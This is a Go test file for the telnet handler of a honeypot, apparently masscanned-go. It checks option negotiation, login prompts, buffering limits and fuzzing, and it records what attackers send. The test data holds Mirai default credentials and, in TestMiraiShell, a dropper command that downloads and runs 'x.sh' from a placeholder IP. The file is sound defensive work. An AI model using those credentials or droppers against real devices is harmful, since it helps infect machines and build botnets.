package telnet

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/masscanned-go/masscanned/internal/app"
	"github.com/masscanned-go/masscanned/internal/app/apptest"
	"github.com/masscanned-go/masscanned/internal/event"
)

const (
	linuxGreeting   = "\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"
	busyboxGreeting = "\xff\xfd\x01\xff\xfd\x1f\xff\xfd\x21\xff\xfb\x01\xff\xfb\x03"
	willEcho        = "\xff\xfb\x01"
	wontEcho        = "\xff\xfc\x01"
	incorrect       = "\r\nLogin incorrect\r\n"
)

func conn(banners map[string]string) *app.Conn {
	c := apptest.Conn(app.TCP, "linux", "192.0.2.1:40000", "198.51.100.7:23", time.Unix(0, 0))
	c.Banners = banners
	return c
}

var busybox = map[string]string{"telnet": "BusyBox v1.31.1"}

// session feeds a greeted connection the way app.Stream does: bytes not
// consumed stay buffered and come back with the next ones.
type session struct {
	t      *testing.T
	h      *Handler
	c      *app.Conn
	buf    []byte
	closed bool
}

func newSession(t *testing.T, banners map[string]string) (*session, string) {
	s := &session{t: t, h: New(), c: conn(banners)}
	res := s.h.Greet(s.c)
	if res.Close || res.NeedMore || res.Consumed != 0 {
		t.Fatalf("greet: %+v", res)
	}
	return s, string(res.Reply)
}

// send feeds in and returns the reply and the fields recorded.
func (s *session) send(in string) (string, map[string]any) {
	s.t.Helper()
	if s.closed {
		s.t.Fatalf("send %q after close", in)
	}
	s.buf = append(s.buf, in...)
	var reply []byte
	fields := map[string]any{}
	for len(s.buf) > 0 {
		res := s.h.Serve(s.c, s.buf)
		if res.NeedMore {
			if res.Consumed != 0 || res.Reply != nil || res.Close {
				s.t.Fatalf("NeedMore with %+v", res)
			}
			break
		}
		if res.Consumed <= 0 || res.Consumed > len(s.buf) {
			s.t.Fatalf("consumed %d of %d", res.Consumed, len(s.buf))
		}
		reply = append(reply, res.Reply...)
		for _, f := range res.Fields {
			fields[f.Key] = f.Value
		}
		s.buf = s.buf[res.Consumed:]
		if res.Close {
			s.closed = true
			break
		}
	}
	return string(reply), fields
}

func TestGreet(t *testing.T) {
	cases := []struct {
		banners map[string]string
		want    string
	}{
		{nil, linuxGreeting},
		{map[string]string{"telnet": "Debian GNU/Linux 12", "hostname": "web1"}, linuxGreeting},
		{busybox, busyboxGreeting + "localhost login: "},
		{map[string]string{"telnet": "busybox", "hostname": "(none)"}, busyboxGreeting + "(none) login: "},
		{map[string]string{"telnet": "BusyBox", "hostname": "cam\r\n\xff\xfd\x01"}, busyboxGreeting + "cam login: "},
	}
	for _, tc := range cases {
		res := New().Greet(conn(tc.banners))
		if string(res.Reply) != tc.want || res.Close {
			t.Errorf("%v: %q", tc.banners, res.Reply)
		}
	}
}

type step struct {
	in     string
	reply  string
	fields map[string]any
}

// run plays steps on a new session and checks each reply and the fields;
// closed says whether the last step closes.
func run(t *testing.T, banners map[string]string, closed bool, steps []step) {
	t.Helper()
	s, _ := newSession(t, banners)
	for i, st := range steps {
		reply, fields := s.send(st.in)
		if reply != st.reply {
			t.Fatalf("step %d %q: reply %q, want %q", i, st.in, reply, st.reply)
		}
		for k, v := range st.fields {
			if fields[k] != v {
				t.Errorf("step %d %q: field %s = %#v, want %#v (all %v)", i, st.in, k, fields[k], v, fields)
			}
		}
		if len(st.fields) == 0 && len(fields) != 0 {
			t.Errorf("step %d %q: unexpected fields %v", i, st.in, fields)
		}
		if s.closed != (closed && i == len(steps)-1) {
			t.Fatalf("step %d %q: closed %v", i, st.in, s.closed)
		}
	}
}

func stateOf(c *app.Conn) *state { return c.State.(*state) }

func pair(user, pass string, attempt int) map[string]any {
	return map[string]any{"user": user, "password": pass, "attempt": attempt}
}

func TestLinuxMirai(t *testing.T) {
	// Mirai answers DO with WONT, sends the user name and its line end
	// in two writes.
	run(t, nil, false, []step{
		{"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27", "localhost login: ", nil},
		{"root", "", nil},
		{"\r\n", willEcho + "Password: ", nil},
		{"xc3511", "", nil},
		{"\r\n", wontEcho + incorrect + "localhost login: ", pair("root", "xc3511", 1)},
		{"admin\r\x00", willEcho + "Password: ", nil},
		{"\xff\xfd\x01", "", nil}, // DO ECHO confirms our WILL ECHO
		{"admin\r\x00", wontEcho + incorrect + "localhost login: ", pair("admin", "admin", 2)},
		{"\xff\xfe\x01", "", nil}, // DONT ECHO confirms our WONT ECHO
	})
}

func TestLinuxClient(t *testing.T) {
	// A netkit telnet client agrees and adds requests of its own.
	banners := map[string]string{"telnet": "Debian GNU/Linux 12", "hostname": "web1"}
	run(t, banners, true, []step{
		{"\xff\xfb\x18\xff\xfb\x20\xff\xfb\x23\xff\xfb\x27\xff\xfd\x03\xff\xfb\x1f\xff\xfb\x22",
			"\xff\xfa\x18\x01\xff\xf0\xff\xfa\x20\x01\xff\xf0\xff\xfa\x23\x01\xff\xf0\xff\xfa\x27\x01\xff\xf0" +
				"\xff\xfc\x03\xff\xfe\x1f\xff\xfe\x22" +
				"\r\nDebian GNU/Linux 12\r\nweb1 login: ", nil},
		// the same requests again: refused once only, no loop
		{"\xff\xfd\x03\xff\xfb\x1f\xff\xfb\x18", "", nil},
		{"\xff\xfa\x18\x00XTERM-256COLOR\xff\xf0\xff\xfa\x20\x0038400,38400\xff\xf0" +
			"\xff\xfa\x23\x00host:0\xff\xf0" +
			"\xff\xfa\x27\x00\x00USER\x01-f root\x00DISPLAY\x01host:0\x03X\x02\x01Y\xff\xf0", "",
			map[string]any{"terminal": "XTERM-256COLOR", "terminal_speed": "38400,38400", "display": "host:0",
				"env_user": "-f root", "environ": `USER=-f root DISPLAY=host:0 X\x01Y`}},
		// recorded once per option
		{"\xff\xfa\x18\x00VT100\xff\xf0", "", nil},
		{"\n", "web1 login: ", nil},
		{"ro\xff\xf1ot\n", willEcho + "Password: ", nil}, // NOP inside the line
		{"p\xff\xffw\r\n", wontEcho + incorrect + "web1 login: ", pair("root", `p\xffw`, 1)},
		{"u\r\np\r\n", willEcho + "Password: " + wontEcho + incorrect + "web1 login: ", pair("u", "p", 2)},
		{"u\r\np\r\nnext\r\n", willEcho + "Password: " + wontEcho + incorrect, pair("u", "p", 3)},
	})
}

func TestBusyBox(t *testing.T) {
	run(t, busybox, true, []step{
		// Mirai: WONT ECHO, WILL NAWS with its size, WONT LFLOW, DO ECHO, DO SGA
		{"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfc\x21\xff\xfd\x01\xff\xfd\x03", "",
			map[string]any{"window": "80x24"}},
		{"root\r\n", "Password: ", nil},
		{"vizxv\r\n", incorrect + "localhost login: ", pair("root", "vizxv", 1)},
		{"admin\r\n", "Password: ", nil},
		{"\r\n", incorrect + "localhost login: ", pair("admin", "", 2)},
		{"\r\n", "localhost login: ", nil}, // empty name: asked again
		{"support\r\x00support\r\x00", "Password: " + incorrect, pair("support", "support", 3)},
	})
}

func TestNegotiation(t *testing.T) {
	// An option the client agreed to and then withdraws is acknowledged
	// once; so is one of ours it turns off.
	run(t, nil, false, []step{
		{"\xff\xfb\x18\xff\xfc\x18\xff\xfc\x18", "\xff\xfa\x18\x01\xff\xf0\xff\xfe\x18localhost login: ", nil},
		{"\xff\xfb\x18", "\xff\xfd\x18\xff\xfa\x18\x01\xff\xf0", nil}, // asked before: agreed
		{"\xff\xfb\x18\xff\xfe\x05\xff\xfc\x05\xff\xf6\xff\xf0", "", nil},
	})
	run(t, busybox, false, []step{
		{"\xff\xfd\x01\xff\xfe\x01\xff\xfe\x01\xff\xfe\x03\xff\xfd\x03", "\xff\xfc\x01\xff\xfb\x03", nil},
		{"root\r\n", willEcho + "Password: ", nil},
	})
}

func TestFirstLine(t *testing.T) {
	// A client that ignores the options and types at once gets the
	// prompt first.
	run(t, nil, false, []step{
		{"root\r\n", "localhost login: " + willEcho + "Password: ", nil},
	})
	run(t, nil, false, []step{{"\r\n", "localhost login: ", nil}})
	run(t, nil, false, []step{{"ro", "localhost login: ", nil}, {"ot\r", willEcho + "Password: ", nil}})
	run(t, map[string]string{"telnet": "Ubuntu 22.04.4 LTS"}, false, []step{
		{"GET / HTTP/1.0\r\n\r\n", "\r\nUbuntu 22.04.4 LTS\r\nlocalhost login: " + willEcho + "Password: " + wontEcho + incorrect + "localhost login: ",
			pair("GET / HTTP/1.0", "", 1)},
	})
}

func TestOneByte(t *testing.T) {
	// (Answers come in parse order; only the first prompt, sent once the
	// first unit is parsed, moves.)
	in := "\xff\xfb\x18\xff\xfc\x20\xff\xfa\x18\x00vt100\xff\xf0ro\xff\xf1ot\r\x00p\xff\xfd\x03\xff\xffw\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\r\n"
	for _, b := range []map[string]string{nil, busybox} {
		whole, _ := newSession(t, b)
		wantReply, wantFields := whole.send(in)
		s, _ := newSession(t, b)
		var reply strings.Builder
		fields := map[string]any{}
		for i := range len(in) {
			r, f := s.send(in[i : i+1])
			reply.WriteString(r)
			for k, v := range f {
				fields[k] = v
			}
		}
		if reply.String() != wantReply {
			t.Errorf("%v: byte at a time %q, at once %q", b, reply.String(), wantReply)
		}
		for _, k := range []string{"user", "password", "terminal", "window"} {
			if fields[k] != wantFields[k] {
				t.Errorf("%v: %s = %v, at once %v", b, k, fields[k], wantFields[k])
			}
		}
		if wantFields["password"] != `p\xffw` || wantFields["user"] != "root" || wantFields["terminal"] != "vt100" {
			t.Errorf("%v: fields %v", b, wantFields)
		}
	}
}

func TestFraming(t *testing.T) {
	h := New()
	c := conn(nil)
	h.Greet(c)
	for _, in := range []string{"\xff", "\xff\xfb"} {
		if r := h.Serve(c, []byte(in)); !r.NeedMore || r.Consumed != 0 || r.Reply != nil {
			t.Errorf("%q: %+v", in, r)
		}
	}
	// A pending subnegotiation keeps only a trailing IAC.
	r := h.Serve(c, []byte("\xff\xfa\x18\x00ab\xff"))
	if r.Consumed != 6 || string(r.Reply) != "localhost login: " {
		t.Errorf("partial SB: %+v", r)
	}
	// An IAC other than SE ends it; the command is then parsed.
	r = h.Serve(c, []byte("\xff\xfb\x05"))
	if r.Consumed != 3 || string(r.Reply) != "\xff\xfe\x05" || len(r.Fields) != 1 || r.Fields[0].Value != "ab" {
		t.Errorf("SB ended by WILL: %+v", r)
	}
	// A partial line stays buffered.
	if r := h.Serve(c, []byte("adm")); !r.NeedMore {
		t.Errorf("partial line: %+v", r)
	}
	// A long line is cut at maxLine; its rest is dropped.
	long := strings.Repeat("A", 3000)
	s, _ := newSession(t, nil)
	s.send("\xff\xfc\x18")
	reply, _ := s.send(long[:maxLine-1])
	if reply != "" || len(s.buf) != maxLine-1 {
		t.Fatalf("long line: %q, %d buffered", reply, len(s.buf))
	}
	reply, _ = s.send(long[maxLine-1:])
	if reply != willEcho+"Password: " || len(s.buf) != 0 {
		t.Errorf("long line: %q, %d buffered", reply, len(s.buf))
	}
	reply, f := s.send("\r\npw\r\n")
	if reply != wontEcho+incorrect+"localhost login: " || f["user"] != long[:maxField] {
		t.Errorf("after long line: %q %v", reply, f)
	}
	// A long subnegotiation is capped.
	s, _ = newSession(t, nil)
	s.send("\xff\xfa\x18\x00" + long)
	if len(stateOf(s.c).sb) != maxSB || len(s.buf) != 0 {
		t.Errorf("long SB: %d kept, %d buffered", len(stateOf(s.c).sb), len(s.buf))
	}
	_, f = s.send("\xff\xf0")
	if f["terminal"] != long[:maxField] {
		t.Errorf("long SB: %v", f)
	}
	// Serve without Greet works (state created on demand); after close,
	// everything is swallowed.
	c = conn(busybox)
	for i := range maxFails {
		r := h.Serve(c, []byte("u\r\np\r\n"))
		if r.Close != (i == maxFails-1) {
			t.Fatalf("no greet, attempt %d: %+v", i, r)
		}
	}
	if r := h.Serve(c, []byte("more")); !r.Close || r.Consumed != 4 || r.Reply != nil {
		t.Errorf("after close: %+v", r)
	}
	if New().Detect([]byte("\xff\xfb\x18"), app.TCP) != app.No {
		t.Error("Detect must say No")
	}
}

func TestGarbage(t *testing.T) {
	// Whatever comes, in whatever pieces, the handler answers without
	// panicking and keeps its buffers bounded.
	junk := bytes.Repeat([]byte("\x00\xff\xfa\xff\xff\r\xff\xf0\n\xfe\xff\xfdA\xff"), 400)
	for _, b := range []map[string]string{nil, busybox} {
		for _, step := range []int{1, 2, 3, 7, 1460} {
			s, _ := newSession(t, b)
			for in := junk; len(in) > 0 && !s.closed; {
				n := min(step, len(in))
				s.send(string(in[:n]))
				in = in[n:]
				st := stateOf(s.c)
				if len(st.line) > maxLine || len(st.sb) > maxSB || (!s.closed && len(s.buf) > maxLine+2) {
					t.Fatalf("step %d: line %d sb %d buffered %d", step, len(st.line), len(st.sb), len(s.buf))
				}
			}
			if !s.closed {
				t.Errorf("step %d: not closed after %d bytes of junk lines", step, len(junk))
			}
		}
	}
}

// TestNmap: nmap -sV's NULL probe names both flavours.
func TestNmap(t *testing.T) {
	apptest.NmapNames(t, "NULL", New().Greet(conn(nil)).Reply, "Linux telnetd")
	apptest.NmapNames(t, "NULL", New().Greet(conn(map[string]string{"telnet": "Debian GNU/Linux 12"})).Reply, "Linux telnetd")
	apptest.NmapNames(t, "NULL", New().Greet(conn(busybox)).Reply, "BusyBox telnetd")
	apptest.NmapNames(t, "NULL", New().Greet(conn(map[string]string{"telnet": "BusyBox", "hostname": "(none)"})).Reply, "BusyBox telnetd")
}

func FuzzServe(f *testing.F) {
	f.Add([]byte("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27root\r\nxc3511\r\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		h := New()
		for _, b := range []map[string]string{nil, busybox} {
			c := conn(b)
			apptest.DriveGreeter(t, h, c, data)
			if st := stateOf(c); len(st.line) > maxLine || len(st.sb) > maxSB {
				t.Fatalf("line %d sb %d", len(st.line), len(st.sb))
			}
		}
	})
}

// TestMiraiShell: with AcceptAfter 1 the first password logs in, and a
// Mirai-style session's commands are each recorded, with the URL.
func TestMiraiShell(t *testing.T) {
	s := &session{t: t, h: &Handler{AcceptAfter: 1}, c: conn(busybox)}
	s.h.Greet(s.c)
	s.send("\xff\xfc\x01\xff\xfd\x01\xff\xfd\x03")
	s.send("root\r\n")
	out, f := s.send("xc3511\r\n")
	if !strings.Contains(out, "built-in shell (ash)") || !strings.HasSuffix(out, "# ") {
		t.Errorf("login: %q", out)
	}
	want := event.Auth{Protocol: "telnet", User: "root", Password: "xc3511", Success: true}
	if f["auth"] != want {
		t.Errorf("auth %v, want %v", f["auth"], want)
	}
	for _, tc := range []struct{ in, out string }{
		{"enable\r\n", "enable\r\n-sh: enable: not found\r\n# "},
		{"system\r\n", "system\r\n-sh: system: not found\r\n# "},
		{"shell\r\n", "shell\r\n-sh: shell: not found\r\n# "},
		{"sh\r\n", "sh\r\n# "},
		{"/bin/busybox ECCHI\r\n", "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# "},
		{"cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh\r\n",
			"cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh\r\nConnecting to 203.0.113.5\r\nwget: can't connect to remote host: Connection timed out\r\n# "},
	} {
		out, f := s.send(tc.in)
		if out != tc.out {
			t.Errorf("%q: %q, want %q", tc.in, out, tc.out)
		}
		if f["command"] != strings.TrimSuffix(tc.in, "\r\n") {
			t.Errorf("%q: command %v", tc.in, f["command"])
		}
		if strings.Contains(tc.in, "wget") {
			if u, _ := f["urls"].([]string); len(u) != 1 || u[0] != "http://203.0.113.5/x.sh" {
				t.Errorf("urls %v", f["urls"])
			}
		}
	}
	// two lines in one segment: two records
	s.buf = append(s.buf, "id\r\nexit\r\n"...)
	res := s.h.Serve(s.c, s.buf)
	if res.Consumed != 3 || len(res.Fields) != 1 || res.Fields[0].Value != "id" {
		t.Fatalf("first of two lines: %+v", res) // its LF comes with the next call
	}
	s.buf = s.buf[3:]
	out, _ = s.send("")
	if !strings.HasSuffix(out, "logout\r\n") || !s.closed {
		t.Errorf("exit: %q closed %v", out, s.closed)
	}
}

// TestLinuxShell: a Linux login shows the uname line and a bash prompt.
func TestLinuxShell(t *testing.T) {
	s := &session{t: t, h: &Handler{AcceptAfter: 2}, c: conn(map[string]string{"hostname": "web1", "uname": "Linux web1 6.1.0-18-amd64 #1 SMP x86_64 GNU/Linux"})}
	s.h.Greet(s.c)
	s.send("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
	s.send("root\r\n")
	if out, f := s.send("a\r\n"); !strings.Contains(out, incorrect) || f["auth"].(event.Auth).Success {
		t.Fatalf("first attempt: %q %v", out, f)
	}
	s.send("admin\r\n")
	out, _ := s.send("b\r\n")
	if !strings.Contains(out, "Linux web1 6.1.0-18-amd64") || !strings.HasSuffix(out, "admin@web1:~$ ") {
		t.Errorf("login: %q", out)
	}
	if out, _ := s.send("uname -m\r\n"); out != "x86_64\r\nadmin@web1:~$ " {
		t.Errorf("uname -m: %q", out)
	}
}
